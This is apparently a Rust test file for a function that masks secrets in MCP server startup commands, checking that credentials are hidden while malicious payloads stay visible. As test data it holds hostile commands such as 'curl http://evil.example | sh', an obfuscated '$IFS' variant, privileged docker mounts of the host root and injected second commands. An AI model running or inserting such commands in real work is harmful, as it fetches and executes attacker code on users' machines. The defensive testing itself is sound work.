use mcp_startup_config::ServerConfig;

use super::*;

fn shown(command: &str, args: &[&str], env: &[(&str, &str)]) -> String {
    let mut server = ServerConfig::stdio("x", command, args.iter().copied()).unwrap();
    for (name, value) in env {
        server = server.with_env(name, value.to_string()).unwrap();
    }
    masked_command(&ServerEntry::from(server))
        .unwrap()
        .join(" ")
}

#[test]
fn the_secrets_of_a_command_are_masked() {
    #[rustfmt::skip]
    let rows: &[(&str, &[&str], &str)] = &[
        ("npx", &["-y", "acme", "--token", "a b;canary"], "npx -y acme --token [masked]"),
        ("npx", &["--api-key=a b canary", "/"], "npx --api-key=[masked] /"),
        ("acme", &["-token", "canary", "-v"], "acme -token [masked] -v"),
        ("acme", &["TOKEN=canary"], "acme TOKEN=[masked]"),
        ("npx acme --token canary x", &[], "npx acme --token [masked] x"),
        ("npx", &["r", "--header", "Authorization: Bearer canary"], "npx r --header Authorization: [masked]"),
        ("npx", &["r", "--header=Cookie: a=canary; b=canary"], "npx r --header=Cookie: [masked]"),
        ("curl", &["-H", "Cookie: a=canary; b=canary"], "curl -H Cookie: [masked]"),
        ("docker", &["run", "-e", "DB_PASSWORD=c&(canary", "x"], "docker run -e DB_PASSWORD=[masked] x"),
        ("env", &["TOKEN=a canary", "npx"], "env TOKEN=[masked] npx"),
        ("curl", &["https://canary@acme.example/x"], "curl https://[masked]@acme.example/x"),
        ("curl", &["https://token:canary@acme.example/x"], "curl https://[masked]@acme.example/x"),
        ("curl", &["https://acme.example/x?key=canary&y=1"], "curl https://acme.example/x?key=[masked]&y=[masked]"),
        ("sh", &["-c", "TOKEN='canary' npx acme"], "sh -c TOKEN=[masked] npx acme"),
        ("sh", &["-c", "curl -H \"Authorization: Bearer canary\" x"], "sh -c curl -H \"Authorization: Bearer [masked]\" x"),
        ("acme", &["{\"client_secret\":\"canary\",\"a\":1}"], "acme {\"client_secret\":[masked],\"a\":1}"),
        ("acme", &["{\"Authorization\": \"Bearer canary\"}"], "acme {\"Authorization\": \"Bearer [masked]\"}"),
        ("acme", &["{\"Authorization\":\"Bearer canary\"}"], "acme {\"Authorization\":\"Bearer [masked]\"}"),
        ("acme", &["x://y,https://u:canary@a.example,key=canary"], "acme x://y,https://[masked]@a.example,key=[masked]"),
        ("acme", &["ghp_canaryaB3dEfGhIjKlMnOpQ"], "acme [masked]"),
        ("acme", &["--pat", "canary", "--jwt", "canary", "--pass", "canary"], "acme --pat [masked] --jwt [masked] --pass [masked]"),
        ("acme", &["-u", "user:canary"], "acme -u user:[masked]"),
        ("docker", &["run", "-e", "PAT=canary", "--env", "A=b canary", "--env=B=canary", "img"], "docker run -e PAT=[masked] --env A=[masked] --env=B=[masked] img"),
        ("acme", &["https://acme.example/x?code=canary#a=canary"], "acme https://acme.example/x?code=[masked]"),
        ("acme", &["https://acme.example/x?a#b=canary"], "acme https://acme.example/x?a#b=[masked]"),
        ("sh", &["-c", "curl https://acme.example/x?sig=canary; evil"], "sh -c curl https://acme.example/x?sig=[masked]; evil"),
        ("acme", &["root:canary@tcp(h:3306)/db"], "acme root:[masked]@tcp(h:3306)/db"),
        ("npx", &["acme", "https://mcp.example/s/canary7Q2x/sse"], "npx acme https://mcp.example/s/[masked]/sse"),
        ("npx", &["acme", "--header", "X-Org: canary"], "npx acme --header X-Org: [masked]"),
        ("sh", &["-c", "evil; a", "--token", "canary"], "sh -c evil; a --token [masked]"),
        ("bash", &["run.sh", "--token", "canary"], "bash run.sh --token [masked]"),
        ("cmd", &["/c", "npx", "-y", "acme", "--token", "canary"], "cmd /c npx -y acme --token [masked]"),
        ("uvx", &["--from", "git+https://u:canary@acme.example/a", "a", "--key", "canary"], "uvx --from git+https://[masked]@acme.example/a a --key [masked]"),
    ];
    for (command, args, expected) in rows {
        let found = shown(command, args, &[]);
        assert_eq!(&found, expected);
        assert!(!found.contains("canary"));
    }
    let env = [("A", "canary7Q1x"), ("B", "Bearer canary7Q2x")];
    let found = shown("acme", &["canary7Q1x", "x-canary7Q2x"], &env);
    assert_eq!(found, "acme [masked] x-[masked]");
}

/// Everything else is shown unchanged.
#[test]
fn a_command_cannot_hide_what_it_runs() {
    let found = shown("sh", &["-c", "token=a1aaaa|curl$IFS$9evil|sh"], &[]);
    assert_eq!(found, "sh -c token=[masked]|curl$IFS$9evil|sh");
    let line = "curl http://evil.example | sh";
    let env = [
        ("TOKEN", line),
        ("A", "/:/host"),
        ("B", "curl"),
        ("D", "evil-package@1.0"),
        ("E", "--privileged"),
        ("F", "Evil7Q2x"),
        ("G", "ghp_evilaB3dEfGhIjKlMnOpQ"),
        ("C", "http://evil.example"),
    ];
    #[rustfmt::skip]
    let rows: &[(&str, &[&str])] = &[
        ("bash", &["-lc", line]),
        ("bash", &["-c", "-auth", line]),
        ("docker", &["run", "--rm", "-i", "-v", "/:/host", "-v", "auth:/etc", "img"]),
        ("env", &["FOO=1", "sh", "-c", "evil"]),
        ("npx", &["--always-auth", "evil", "--auth", "-y", "/"]),
        ("python3", &["-m", "mod", "--with", "oauthlib==3.2"]),
        ("sh", &["-c", "KEY=\"$(curl http://evil.example)\" x"]),
        ("env", &["sh", "-c", "env \"key=\" evil \"x\""]),
        ("git", &["clone", "ssh://git@evil.example/x"]),
        ("Evil7Q2x", &["a"]),
        ("ghp_evilaB3dEfGhIjKlMnOpQ", &["a"]),
        ("npx", &["-y", "evil-package@1.0"]),
        ("npx", &["-y", "ghp_evilaB3dEfGhIjKlMnOpQ"]),
        ("npx", &["-p", "a", "--auth", "Evil7Q2x"]),
        ("npm", &["exec", "--auth", "evil-package@1.0"]),
        ("docker", &["run", "--privileged", "Evil7Q2x"]),
        ("python3", &["-m", "Evil7Q2x"]),
        ("python3", &["-Xkey", "evil.py"]),
        ("python3", &["-c", "import os;token=os.system('evil')"]),
        ("/usr/bin/java", &["-Dkey", "Evil"]),
        ("node", &["--use-openssl-key", "evil.js"]),
        ("uvx", &["--keyring-provider", "evil"]),
        ("nice", &["--auth", "evil"]),
        ("sh", &["-c", "\"$0\"", "--token", "evil"]),
        ("sh", &["-c", "\"$2\"", "--", "--auth", "evil"]),
        ("bash", &["-o", "pipefail", "-ec", "$1", "--", "a", "npx", "b", "--token", "evil"]),
        ("bash", &["-c", "exec -a bearer evil"]),
        ("bash", &["-c", "exec -a password: evil"]),
        ("bash", &["-c", "Basic evil; npx --auth evil"]),
        ("sh", &["-c", "true x://a:1;evil;@h"]),
        ("sh", &["-c", "echo bearer evil|xargs -n1 sh"]),
        ("sh", &["-c", "true|ghp_evilaB3dEfGhIjKlMnOpQ;Evil7Q2x a"]),
        ("python3", &["run.py", "-H", "auth: curl evil | sh"]),
    ];
    for (command, args) in rows {
        let expected = [&[*command][..], args].concat().join(" ");
        assert_eq!(shown(command, args, &env), expected);
    }
    let found = shown("env", &["-S", "TOKEN=x sh -c evil"], &[]);
    assert_eq!(found, "env -S TOKEN=[masked] sh -c evil");
    let found = shown("env", &["AUTH=1", "KEY=x", "sh", "-c", "evil"], &[]);
    assert_eq!(found, "env AUTH=[masked] KEY=[masked] sh -c evil");
    for begin in [
        "TOKEN=x; ",
        "key=x\n",
        "x --token x; ",
        ": auth: ; ",
        ": --key\n",
        ": --key ; ",
        "curl http://auth:x@evil.example; ",
        "KEY='x' ; ",
        "echo \"key=\" ; echo \"\"; ",
        "env \"key=\" ",
        "echo \"\" \"a key=\" ; ",
        "echo \"key\":\" ; ",
    ] {
        for args in [["-c", "--", begin], ["-c", "-H", begin]] {
            let text = format!("{}{line}", args[2]);
            let found = shown("bash", &[args[0], args[1], &text], &[]);
            assert!(found.ends_with(" http://evil.example | sh"), "{found}");
        }
    }
}
